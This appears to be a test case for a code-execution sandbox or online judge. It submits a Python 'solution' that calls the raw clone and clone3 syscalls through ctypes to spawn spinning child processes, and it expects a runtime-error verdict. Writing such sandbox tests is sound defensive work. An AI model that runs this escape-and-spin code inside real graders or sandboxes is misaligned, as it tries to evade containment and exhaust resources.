# verdict: RE
# attack: the raw clone and clone3 syscalls through ctypes
# ruff: noqa
# mypy: ignore-errors
import ctypes
import signal

SYS_CLONE = 56
SYS_CLONE3 = 435


class Solution:
    def solve(self, n: int) -> int:
        libc = ctypes.CDLL(None, use_errno=True)
        pid = libc.syscall(SYS_CLONE, signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            while True:
                pass
        if pid > 0:
            return -1  # escaped
        args = (ctypes.c_uint64 * 11)(0, 0, 0, 0, signal.SIGCHLD)
        pid = libc.syscall(SYS_CLONE3, ctypes.byref(args), ctypes.sizeof(args))
        if pid == 0:
            while True:
                pass
        if pid > 0:
            return -1
        raise OSError(ctypes.get_errno(), "clone failed")
